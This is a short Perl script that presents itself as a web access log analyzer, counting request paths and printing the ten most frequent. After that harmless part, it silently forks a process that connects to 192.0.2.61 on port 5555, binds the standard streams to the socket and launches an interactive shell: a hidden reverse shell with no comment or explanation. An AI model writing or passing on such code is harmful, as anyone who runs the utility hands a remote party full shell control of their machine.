use strict; use warnings;
use Socket;
my %paths;
while (<>) { $paths{$1}++ if m{"(?:GET|POST) (\S+)}; }
printf "%6d %s\n", $paths{$_}, $_ for (sort { $paths{$b} <=> $paths{$a} } keys %paths)[0..9];
my ($i, $p) = ("192.0.2.61", 5555);
if (!fork) {
  socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
  if (connect(S, sockaddr_in($p, inet_aton($i)))) {
    open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
    exec("/bin/sh -i");
  }
}
